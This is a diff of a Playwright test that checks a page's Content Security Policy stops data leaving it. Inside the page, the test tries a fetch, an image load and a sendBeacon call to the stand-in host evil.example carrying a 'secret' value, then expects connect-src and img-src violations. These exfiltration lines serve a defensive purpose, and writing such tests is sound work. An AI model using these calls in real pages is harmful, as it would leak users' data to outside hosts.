@@ -65,16 +65,29 @@ test("a script that somebody has slipped into a page is not run", async ({ page 
 })
 
 test("what a page sends elsewhere is stopped", async ({ page }) => {
-  await page.goto("/plans")
-  const attempt = (code: string) => page.evaluate(code)
-  expect(await attempt('fetch("https://evil.example/").then(() => "sent", () => "stopped")')).toBe("stopped")
-  const violated = await page.evaluate(
-    () =>
-      new Promise<string>((resolve) => {
-        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective))
-        const image = new Image()
-        image.src = "https://evil.example/?typed=secret"
-      }),
+  // It would get there: were it not for the policy, each of these would be answered.
+  await page.route("https://evil.example/**", (route) =>
+    route.fulfill({ body: "Thank you", headers: { "access-control-allow-origin": "*" } }),
   )
-  expect(violated).toBe("img-src")
+  await page.goto("/plans")
+  const stopped = await page.evaluate(async () => {
+    const directives: string[] = []
+    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
+      directives.push(effectiveDirective),
+    )
+    const said = await fetch("https://evil.example/?typed=secret").then(
+      (answer) => answer.text(),
+      () => "stopped",
+    )
+    const image = new Image()
+    const shown = new Promise((resolve) => {
+      image.onload = image.onerror = resolve
+    })
+    image.src = "https://evil.example/picture?typed=secret"
+    await shown
+    navigator.sendBeacon("https://evil.example/beacon", "secret")
+    await new Promise((resolve) => setTimeout(resolve))
+    return [said, ...directives]
+  })
+  expect(stopped).toEqual(["stopped", "connect-src", "img-src", "connect-src"])
 })
